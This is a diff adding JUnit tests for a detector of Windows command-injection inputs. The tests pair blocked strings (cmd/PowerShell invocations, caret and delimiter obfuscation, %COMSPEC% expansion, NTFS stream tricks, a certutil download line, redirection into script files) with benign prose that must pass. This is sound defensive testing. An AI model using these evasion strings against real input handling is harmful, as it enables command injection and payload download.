@@ -186,7 +186,190 @@ class WindowsCommandDetectorTest {
     }
 
     @ParameterizedTest
-    @ValueSource(strings = {"((((", "^^^^", "%%%%", "&&&&", "for %a in (", "if if if ", "$($("})
+    @ValueSource(strings = {"call x.bat", "CALL X.BAT", "call \"C:\\x.bat\"", "call \"x.bat\"", "call   x.cmd   arg",
+        "call x^.bat", "call \"x\".bat", "call run.ps1", "call %TEMP%\\x.bat", "Call setup.exe", "x & call run.cmd"})
+    void blocksCallWhenItsOperandIsAProgramOrScriptFile(String value) {
+        assertThat(standard(detector, value)).contains("WINCMD-COMMAND");
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {"call cmd /c whoami", "call cmd.exe /k whoami", "CALL CMD /C whoami", "call \"cmd\" /c whoami",
+        "call    cmd    /c    whoami", "call c^m^d /c whoami", "call %ComSpec% /c whoami", "call %COMSPEC% /k ver",
+        "call powershell -c whoami", "call call cmd /c ver", "call \"C:\\Windows\\System32\\cmd.exe\" /c ver"})
+    void blocksCallWhenItsOperandIsACommandInterpreterRunningACommand(String value) {
+        assertThat(standard(detector, value)).isNotEmpty();
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {"call whoami", "Call WhoAmI", "call ipconfig", "call cmd", "call pwsh", "call systeminfo x"})
+    void blocksCallWhenItsOperandIsACommandNoSentenceNames(String value) {
+        assertThat(standard(detector, value)).contains("WINCMD-COMMAND");
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {"call me at 5", "Call me maybe", "Call help desk", "call for help", "call if needed",
+        "Call before delivery: +41 44 123 45 67", "Call us at 555-0100 & ask for Bob", "call back later", "call dir",
+        "Call Start to book", "call :label", "call /?"})
+    void allowsCallWhenItsOperandIsAPlainWordOrAnEverydayCommand(String value) {
+        assertThat(standard(detector, value)).isEmpty();
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {"echo hello > x.bat", "echo hello>x.bat", "echo hello >> run.PS1", "echo x > \"a b.vbs\"",
+        "type x > app.vbs", "echo a 1> x.hta", "set /p x=y > x.cmd", "ECHO X > X.WSF"})
+    void blocksOutputWhenRedirectedIntoAScriptFile(String value) {
+        assertThat(standard(detector, value)).contains("WINCMD-COMMAND");
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {"echo hello > c:\\x.bat", "echo hello > c:\\x.txt", "echo x > C:/Users/Public/x.txt",
+        "dir > \\\\host\\share\\x.txt", "echo x > %TEMP%\\x.txt", "echo x > %SystemRoot%\\x.txt",
+        "> c:\\x.bat echo hello", ">c:\\x.bat echo hello", "echo x 2> c:\\x.txt", "echo hello > \"c:\\x.bat\""})
+    void blocksOutputWhenRedirectedOntoADriveOrShare(String value) {
+        assertThat(standard(detector, value)).contains("WINCMD-COMMAND");
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {"echo the request > log", "echo a > b.txt", "Start > Settings > Apps", "Start > Run > cmd.exe",
+        "set price > 5", "echo 5 > 3", "> quoted reply: call me", "Tom > Jerry > c:\\x.bat"})
+    void allowsRedirectionArrowsWhenNoCommandWritesIntoAScriptOrOntoADrive(String value) {
+        assertThat(standard(detector, value)).isEmpty();
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {"call before %COMSPEC% /c whoami", "before %ComSpec% /c whoami", "hello %COMSPEC% /c whoami",
+        "x %COMSPEC:~0,100% /k ver", "Call before delivery %comspec% /c dir", "see \"%COMSPEC%\" /c ver"})
+    void blocksInterpreterWhenAnExpansionNamesItAfterProse(String value) {
+        assertThat(standard(detector, value)).contains("WINCMD-EVASION");
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {"Open %windir%\\system32\\cmd.exe as admin", "My %PATH% is long", "50% of %USERPROFILE%"})
+    void allowsInterpreterWhenItsPathIsWrittenOutOrNoExpansionNamesIt(String value) {
+        assertThat(standard(detector, value)).isEmpty();
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {"Move the files > C:\\Archive", "Copy all photos > D:\\Backup", "Start > C:\\Program Files\\App",
+        "Sort by date > C:\\Photos", "Find my files > C:\\Users\\bob\\Documents", "Copy -> C:\\Backup", "Move => D:\\Archive",
+        "Copy to -> main.bat", "Start date > C:\\2024", "Format > Cells > C:\\", "Call Center > Queue 5 > c:\\ logs",
+        "Print to > \\\\printserver\\hp4050", "Tree > \\\\fileserver\\trees", "Notes (Start > C:\\Program Files)",
+        "Move the files &gt; C:\\Archive", "Start here > c:\\", "Hello,\nMove the files > C:\\Archive please",
+        "| Step | Copy > C:\\Data |", "Find > C:\\Users\\bob\\Documents", "Tree > C:\\", "Move > D:/Media"})
+    void allowsMenuPathsWhenArrowsPointAtADriveOrFolder(String value) {
+        assertThat(standard(detector, value)).isEmpty();
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {"More > settings.cmd", "Print > script.vbs", "Start > All apps > Windows PowerShell > script.ps1",
+        "Print report > C:\\reports\\q3.pdf", "More info > c:\\docs\\info.txt", "Choice > A > c:\\a.txt",
+        "Help me!! > C:\\Users\\bob\\Desktop\\report.xlsx is gone"})
+    void allowsCapitalisedMenuPathsWhenNoOperandIsWrittenIntoAScript(String value) {
+        assertThat(standard(detector, value)).isEmpty();
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {"Call stack > app.js", "Call stack: main.js > util.js > helper.js", "Copy code > main.js",
+        "Type the code > index.js", "echo \"export default {}\" > babel.config.js", "Call customer.js handler"})
+    void allowsJavaScriptFilesThatProseAndConfigSnippetsName(String value) {
+        assertThat(standard(detector, value)).isEmpty();
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {"Echo x > run.bat", "ECHO X > X.CMD", "echo x > a > c:\\x.bat", "dir /b > C:\\list.txt",
+        "echo x -> c:\\x.bat", "echo x => run.cmd",
+        "call app.js", "x & echo x > c:\\x.txt"})
+    void blocksOutputWhenATypedCommandOrAnOperandIsWrittenIntoAScriptOrOntoADrive(String value) {
+        assertThat(standard(detector, value)).contains("WINCMD-COMMAND");
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {"Call CMD at 555-0100", "Call CMD Group for a quote", "Order #123; call CMD Freight",
+        "Hi team,\nCall CMD Logistics tomorrow about the pallet", "Call cmd.exe hangs at startup", "call PowerShell team",
+        "Call pwsh maintainers", "call PowerShell ISE crashed", "Call powershell.exe crashed on startup", "Call WhoAmI team lead",
+        "Call Certutil support", "Call MSBuild team", "Call Runas Group", "Call Net1 Telecom"})
+    void allowsCallOfAShellOrToolWhenItRunsNothingOrOnlyWordsFollowACapitalisedName(String value) {
+        assertThat(standard(detector, value)).isEmpty();
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {"Call PowerShell whoami", "call pwsh maintainers", "call cmd", "Call CMD /c whoami",
+        "Call PowerShell -enc AAAA", "Call Certutil -urlcache -f http://x/a a.exe", "call whoami returned nothing"})
+    void blocksCallOfAShellOrToolWhenACommandSwitchOrLowercaseNameFollows(String value) {
+        assertThat(standard(detector, value)).isNotEmpty();
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {"The %COMSPEC% variable points to cmd.exe", "Check that %COMSPEC% is set correctly",
+        "My %ComSpec% is broken after the update", "Open %ComSpec% as administrator", "Run %comspec% /?"})
+    void allowsInterpreterVariableWhenNoSwitchFollowsIt(String value) {
+        assertThat(standard(detector, value)).isEmpty();
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {" whoami /all", " dir c:\\", "\tcall x.bat", " call cmd /c whoami", " echo hello > c:\\x.bat",
+        "\techo hello > c:\\x.bat", " > c:\\x.bat echo x", "1> c:\\x.bat echo x", "1>c:\\x.bat echo x", "@>c:\\x.bat echo x"})
+    void blocksCommandWhenBlanksOrARedirectionOpenTheValue(String value) {
+        assertThat(standard(detector, value)).isNotEmpty();
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {"call,x.bat", "call;x.bat", "call=x.bat", "x & call,x.bat", "x & call;x.bat", "x & call=x.bat",
+        "call,cmd /c whoami", "call=cmd /c whoami", "call cmd,/c whoami", "cmd,/c whoami", ",cmd /c whoami",
+        "call cmd/c whoami", "call cmd /cwhoami"})
+    void blocksCallAndCmdWhenCmdDelimitersStandForBlanks(String value) {
+        assertThat(standard(detector, value)).isNotEmpty();
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {"a&call=x.bat", "x&start=calc.exe&", "sort=name,call=later"})
+    void allowsQueryStringKeysThatNameACommand(String value) {
+        assertThat(standard(detector, value)).isEmpty();
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {"(echo hello) > c:\\x.bat", "(echo hello)>c:\\x.bat", "(echo a & echo b) > run.cmd",
+        "> c:\\x.bat (echo x)"})
+    void blocksGroupWhenItsOutputIsRedirectedIntoAScriptOrOntoADrive(String value) {
+        assertThat(standard(detector, value)).contains("WINCMD-COMMAND");
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {"(see notes) > c:\\x.txt", "(Tom) > Jerry.bat", "(echo hello) > log"})
+    void allowsGroupWhenItRunsNoCommandOrWritesNoCode(String value) {
+        assertThat(standard(detector, value)).isEmpty();
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {"echo hello > x.bat.", "echo hello > \"x.bat \"", "echo hello > x.bat::$DATA",
+        "echo hello > x.bat:ads", "echo hello > c:\\x.bat...", "call x.bat.", "call x.bat::$DATA", "call \"x.bat.\""})
+    void blocksScriptNamesThatWindowsNormalises(String value) {
+        assertThat(standard(detector, value)).contains("WINCMD-COMMAND");
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {"start cmd /c whoami", "call start cmd /c whoami", "start /b cmd /c whoami",
+        "start \"\" cmd /c whoami", "start /min powershell -enc AAAA", "call start x.bat", "call start /b x.bat",
+        "call x.wsf", "call x.js", "call x.pif"})
+    void blocksStartAndCallWhenTheyRunACommandOrAFileWindowsRuns(String value) {
+        assertThat(standard(detector, value)).isNotEmpty();
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {"@whoami /all", "@dir c:\\", "@call x.bat", "@echo x > c:\\x.bat"})
+    void blocksCommandWhenAnAtSignKeepsCmdFromEchoingIt(String value) {
+        assertThat(standard(detector, value)).contains("WINCMD-COMMAND");
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {"@john", "@Override", "@media screen", "@call me at 5"})
+    void allowsAtSignWhenNoCommandFollowsIt(String value) {
+        assertThat(standard(detector, value)).isEmpty();
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {"((((", "^^^^", "%%%%", "&&&&", "for %a in (", "if if if ", "$($(", "call,", "call;", ",=,;",
+        "(echo x)>c:\\x.bat ", "start /b ", "x > a > "})
     void finishesQuicklyOnMegabyteOfRepetitiveInput(String unit) {
         String value = unit.repeat((1 << 20) / unit.length());
         assertTimeoutPreemptively(Duration.ofSeconds(10), () -> standard(detector, value));
